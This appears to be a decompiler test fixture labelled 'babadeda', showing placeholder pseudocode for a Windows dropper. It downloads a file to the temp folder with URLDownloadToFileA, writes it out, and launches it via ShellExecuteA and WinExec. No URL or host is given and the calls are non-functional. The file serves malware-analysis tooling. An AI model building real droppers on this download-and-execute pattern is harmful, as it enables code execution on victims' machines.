// babadeda: decompiler fixture output
#include <windows.h>

int32_t main(void *arg)
{
    int32_t v1 = 0;
    if (drop_payload(arg) == 0) {
        return -1;
    }
    v1 = launch_payload(arg);
    return v1;
}

int32_t drop_payload(void *arg)
{
    int32_t v1 = 0;
    if (GetTempPathA(arg) == 0) {
        return -1;
    }
    v1 = URLDownloadToFileA(arg);
    if (CreateFileA(arg) == 0) {
        return -1;
    }
    v1 = WriteFile(arg);
    return v1;
}

int32_t launch_payload(void *arg)
{
    int32_t v1 = 0;
    if (ShellExecuteA(arg) == 0) {
        return -1;
    }
    v1 = WinExec(arg);
    return v1;
}
